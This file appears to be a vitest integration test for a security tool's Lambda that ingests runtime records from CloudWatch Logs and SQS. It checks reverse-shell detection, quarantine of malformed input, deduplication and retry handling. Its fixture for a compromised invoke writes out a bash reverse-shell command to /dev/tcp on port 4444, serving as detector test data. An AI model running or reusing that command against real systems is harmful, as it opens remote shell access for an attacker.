/**
 * The runtime records ingest as Lambda runs it, on the two ways the
 * collector's extension ships: a CloudWatch Logs subscription of a collected
 * function's log group, and SQS batches of the messages the extension's
 * `SqsSink` sends. DynamoDB is dynalite, S3 (quarantine) and EventBridge (the
 * findings bus) are the local servers.
 */
import { gzipSync } from 'node:zlib';
import type { CloudWatchLogsEvent, SQSEvent } from 'aws-lambda';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { RuntimeRecord } from '../../../detectors/schema/runtime-record.js';
import { SqsSink, StreamSink } from '../../../lambda-layer/src/shipper.js';
import { sqsEvent, sqsRecord } from '../../helpers/aws-events.js';
import { type CapturedOutput, captureOutput } from '../../helpers/captured-output.js';
import {
  type IngestWorld,
  QUARANTINE_BUCKET,
  startIngestWorld,
} from '../../helpers/cloudtrail-ingest-harness.js';
import { lambdaContext } from '../../helpers/lambda.js';
import { runtimeRecord } from '../../helpers/runtime-records.js';

type Handler = (event: CloudWatchLogsEvent | SQSEvent, context: unknown) => Promise<unknown>;
let runtimeIngest: Handler;
let world: IngestWorld;
let output: CapturedOutput;

const RUNTIME_QUEUE_ARN = 'arn:aws:sqs:us-east-1:999988887777:trailhound-runtime-records';
const REVERSE_SHELL_RULE = 'aws.runtime.execution.reverse-shell-command-line';
/** The profile of a collected function version (detectors/baselines/features.ts). */
const ORDERS_API_PROFILE = 'function:111122223333:orders-api:$LATEST';

beforeAll(async () => {
  output = captureOutput();
  world = await startIngestWorld();
  ({ handler: runtimeIngest } = (await import('../../../functions/runtime-ingest.js')) as unknown as {
    handler: Handler;
  });
});

afterAll(async () => {
  output.restore();
  await world.close();
});

beforeEach(() => output.clear());

const context = () => lambdaContext({ functionName: 'trailhound-runtime-ingest' });

/** The identity of a collected function other than the helper's `orders-api`. */
function collectedFunction(name: string): Record<string, unknown> {
  return {
    name,
    version: '$LATEST',
    region: 'us-east-1',
    account: '111122223333',
    arn: `arn:aws:lambda:us-east-1:111122223333:function:${name}`,
    role_session: `arn:aws:sts::111122223333:assumed-role/${name}-role/${name}`,
    runtime: 'nodejs22.x',
  };
}

/** An invoke of a compromised function: init, a reverse shell, its connection, the collector's health. */
function compromisedInvoke(fields: Record<string, unknown> = {}): Record<string, unknown>[] {
  return [
    runtimeRecord('platform.event', {
      ...fields,
      request_id: undefined,
      platform: { type: 'platform.initStart', record: { runtimeVersion: 'nodejs:22.v40' } },
    }),
    runtimeRecord(
      'process.exec',
      {
        ...fields,
        pid: 512,
        ppid: 8,
        path: '/bin/bash',
        args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'],
      },
      2,
    ),
    runtimeRecord(
      'network.connect',
      { ...fields, pid: 512, path: '203.0.113.66', port: 4444, family: 'ipv4' },
      3,
    ),
    runtimeRecord(
      'collector.health',
      { ...fields, health: { written: 3, dropped: 0, denied: 0, errors: [] } },
      4,
    ),
  ];
}

/** A CloudWatch Logs subscription event as Lambda receives it: the payload gzipped and base64-encoded. */
function subscriptionEvent(payload: Record<string, unknown>): CloudWatchLogsEvent {
  return { awslogs: { data: gzipSync(JSON.stringify(payload)).toString('base64') } };
}

/** The log group of a collected function as the subscription sends it: the extension's lines among the function's own. */
function dataMessage(records: readonly Record<string, unknown>[]): Record<string, unknown> {
  const [first, ...rest] = records.map((r) => JSON.stringify(r));
  return {
    messageType: 'DATA_MESSAGE',
    owner: '111122223333',
    logGroup: '/aws/lambda/orders-api',
    logStream: '2026/03/06/[$LATEST]4f1c2b9a0d8e4c7b9a3f5e6d7c8b9a0f',
    subscriptionFilters: ['trailhound-runtime'],
    logEvents: [
      {
        id: '1',
        timestamp: 1,
        message: 'START RequestId: 8f5a2b1c-1111-4a5b-9c3d-000000000001 Version: $LATEST',
      },
      { id: '2', timestamp: 2, message: first },
      { id: '3', timestamp: 3, message: '{"level":"INFO","message":"order stored","orderId":"o-1"}' },
      // The text log format puts time, request id and level before the line.
      ...rest.map((line, i) => ({
        id: String(4 + i),
        timestamp: 4 + i,
        message: `2026-03-06T00:00:02.000Z\t8f5a2b1c-1111-4a5b-9c3d-000000000001\tINFO\t${line}`,
      })),
      { id: '9', timestamp: 9, message: 'END RequestId: 8f5a2b1c-1111-4a5b-9c3d-000000000001' },
    ],
  };
}

/** The messages the extension's `SqsSink` sends for `records`, as an SQS batch of the runtime queue. */
async function shippedBatch(records: readonly Record<string, unknown>[]): Promise<SQSEvent> {
  const bodies: string[] = [];
  const sink = new SqsSink(
    'https://sqs.us-east-1.amazonaws.com/999988887777/trailhound-runtime-records',
    {
      send: async (command) => {
        const input = command as { Entries: { MessageBody: string }[] };
        bodies.push(...input.Entries.map((e) => e.MessageBody));
        return {};
      },
    },
    (input) => input,
    // Nothing must be refused: a record on stdout here would be a lost test record.
    new StreamSink({ write: () => expect.unreachable('a record fell back to stdout') } as never),
  );
  await sink.send(records as unknown as RuntimeRecord[]);
  return sqsEvent(bodies.map((body) => sqsRecord(body, RUNTIME_QUEUE_ARN)));
}

const quarantineEntries = (prefix: string) =>
  world.s3.listKeys(QUARANTINE_BUCKET, `quarantine/problems/runtime/${prefix}`).map((key) =>
    (world.s3.getObject(QUARANTINE_BUCKET, key)?.body.toString('utf8') ?? '')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { reason: string; message: string; content: string }),
  );

describe('runtime-ingest', () => {
  const logsRecords = compromisedInvoke();
  const logsEvent = subscriptionEvent(dataMessage(logsRecords));
  const queueRecords = compromisedInvoke({ function: collectedFunction('billing-worker') });

  it('reads the runtime records of a subscription payload, passes over other lines, and publishes a reverse shell', async () => {
    await runtimeIngest(logsEvent, context());

    const findings = world.findings();
    expect(findings.map((f) => f.rule.uid)).toContain(REVERSE_SHELL_RULE);
    const finding = findings.find((f) => f.rule.uid === REVERSE_SHELL_RULE);
    expect(JSON.stringify(finding)).toContain('orders-api');
    expect(JSON.stringify(finding)).toContain('/dev/tcp/203.0.113.66/4444');
    // Platform and health records are events too; the function's own lines are not.
    expect(output.metric('EventsIn')).toBe(logsRecords.length);
    // START, the function's own line, END.
    expect(output.metric('LogEvents')).toBe(logsRecords.length + 3);
    expect(output.metric('Quarantined')).toBe(0);
    const emf = output.records.find((r) => r._aws !== undefined && 'EventsIn' in r);
    expect(emf).toMatchObject({ service: 'trailhound', source: 'lambda-runtime' });
    expect(quarantineEntries('logs/')).toEqual([]);
  });

  it('takes an SQS batch of the messages the extension sends, as one delivery, and publishes the same finding', async () => {
    const published = world.eventBridge.events.length;
    const batch = await shippedBatch(queueRecords);
    expect(batch.Records).toHaveLength(queueRecords.length);

    expect(await runtimeIngest(batch, context())).toEqual({ batchItemFailures: [] });
    const findings = world.findings().slice(published);
    expect(findings.map((f) => f.rule.uid)).toContain(REVERSE_SHELL_RULE);
    expect(JSON.stringify(findings.find((f) => f.rule.uid === REVERSE_SHELL_RULE))).toContain(
      'billing-worker',
    );
    expect(output.metric('EventsIn')).toBe(queueRecords.length);
    expect(output.metric('Messages')).toBe(queueRecords.length);
    expect(output.metric('ProfileWrites')).toBeLessThan(queueRecords.length);
  });

  it('adds nothing when a subscription event or a batch is delivered again', async () => {
    const published = world.eventBridge.events.length;
    const profile = await world.profile(ORDERS_API_PROFILE);

    await runtimeIngest(logsEvent, context());
    expect(await runtimeIngest(await shippedBatch(queueRecords), context())).toEqual({
      batchItemFailures: [],
    });

    expect(world.eventBridge.events.length).toBe(published);
    expect(output.metric('DuplicatesSkipped')).toBe(logsRecords.length + queueRecords.length);
    expect(output.metric('EventsIn')).toBe(logsRecords.length + queueRecords.length);
    expect(await world.profile(ORDERS_API_PROFILE)).toEqual(profile);
  });

  it.each([
    ['not base64', '%%% not base64 %%%', 'unknown-format'],
    [
      'base64, but not gzip',
      Buffer.from('{"messageType":"DATA_MESSAGE"}').toString('base64'),
      'unknown-format',
    ],
    [
      'a cut gzip stream',
      gzipSync(JSON.stringify(dataMessage(logsRecords)))
        .subarray(0, 60)
        .toString('base64'),
      'truncated-file',
    ],
    [
      'gzip of text that is not JSON',
      gzipSync('DATA_MESSAGE logEvents').toString('base64'),
      'malformed-json',
    ],
    [
      'gzip of JSON that is no subscription payload',
      gzipSync('{"records":[]}').toString('base64'),
      'invalid-structure',
    ],
  ])('quarantines a subscription event whose data is %s, and does not throw', async (_what, data, reason) => {
    const published = world.eventBridge.events.length;
    const before = world.s3.listKeys(QUARANTINE_BUCKET, 'quarantine/problems/runtime/logs/');

    await expect(runtimeIngest({ awslogs: { data } }, context())).resolves.toBeDefined();

    const added = world.s3
      .listKeys(QUARANTINE_BUCKET, 'quarantine/problems/runtime/logs/')
      .filter((key) => !before.includes(key));
    expect(added).toHaveLength(1);
    const [problem, ...others] = (
      world.s3.getObject(QUARANTINE_BUCKET, added[0] as string)?.body.toString('utf8') ?? ''
    )
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { reason: string; content: string });
    expect(others).toEqual([]);
    expect(problem).toMatchObject({ reason, content: data });
    expect(output.metric('Quarantined')).toBeGreaterThan(0);
    expect(world.eventBridge.events.length).toBe(published);
  });

  it('yields nothing for a control message', async () => {
    const before = world.s3.listKeys(QUARANTINE_BUCKET).length;
    await runtimeIngest(
      subscriptionEvent({
        messageType: 'CONTROL_MESSAGE',
        owner: 'CloudwatchLogs',
        logGroup: '',
        logStream: '',
        subscriptionFilters: [],
        logEvents: [
          { id: '', timestamp: 1, message: 'CWL CONTROL MESSAGE: Checking health of destination Lambda.' },
        ],
      }),
      context(),
    );
    expect(output.metric('EventsIn')).toBe(0);
    expect(output.metric('Quarantined')).toBe(0);
    expect(world.s3.listKeys(QUARANTINE_BUCKET)).toHaveLength(before);
  });

  it('quarantines messages that are not runtime records and processes the others of the batch', async () => {
    const records = compromisedInvoke({ function: collectedFunction('reports-export') });
    const batch = await shippedBatch(records);
    batch.Records.push(
      sqsRecord('{"trailhound_runtime": 1, "kind": ', RUNTIME_QUEUE_ARN),
      sqsRecord(JSON.stringify({ level: 'INFO', message: 'not a runtime record' }), RUNTIME_QUEUE_ARN),
    );
    expect(await runtimeIngest(batch, context())).toEqual({ batchItemFailures: [] });
    expect(output.metric('EventsIn')).toBe(records.length);

    const entries = quarantineEntries('sqs/');
    const problems = entries.find((e) => e.some((p) => p.content.includes('not a runtime record')));
    expect(problems?.map((p) => p.reason).sort()).toEqual(['malformed-json', 'unrecognized-record']);
  });

  it("processes a redriven dead letter: Lambda's on-failure record of a subscription event", async () => {
    const published = world.eventBridge.events.length;
    const records = compromisedInvoke({ function: collectedFunction('image-resize') });
    const payload = subscriptionEvent({ ...dataMessage(records), logGroup: '/aws/lambda/image-resize' });
    const onFailure = {
      version: '1.0',
      timestamp: '2026-03-06T00:05:00.000Z',
      requestContext: {
        requestId: 'c0ffee00-1111-4a5b-9c3d-000000000002',
        functionArn: 'arn:aws:lambda:us-east-1:999988887777:function:trailhound-runtime-ingest:$LATEST',
        condition: 'RetriesExhausted',
        approximateInvokeCount: 3,
      },
      requestPayload: payload,
      responseContext: { statusCode: 200, executedVersion: '$LATEST', functionError: 'Unhandled' },
    };
    const batch = sqsEvent([sqsRecord(JSON.stringify(onFailure), RUNTIME_QUEUE_ARN)]);

    expect(await runtimeIngest(batch, context())).toEqual({ batchItemFailures: [] });
    expect(output.metric('EventsIn')).toBe(records.length);
    expect(
      world
        .findings()
        .slice(published)
        .map((f) => f.rule.uid),
    ).toContain(REVERSE_SHELL_RULE);
  });

  it('fails the invocation when the bus refuses the findings, and publishes them on the retry', async () => {
    const records = compromisedInvoke({ function: collectedFunction('pdf-render') });
    const event = subscriptionEvent(dataMessage(records));
    world.eventBridge.failEntries(() => 'InternalFailure');
    await expect(runtimeIngest(event, context())).rejects.toThrow(/not delivered to event bus/);
    world.eventBridge.failEntries(undefined);
    const published = world.eventBridge.events.length;

    await runtimeIngest(event, context());
    expect(
      world
        .findings()
        .slice(published)
        .map((f) => f.rule.uid),
    ).toContain(REVERSE_SHELL_RULE);
  });

  it('refuses an event of another trigger', async () => {
    await expect(runtimeIngest({ detail: {} } as never, context())).rejects.toThrow(
      /neither a CloudWatch Logs/,
    );
  });
});
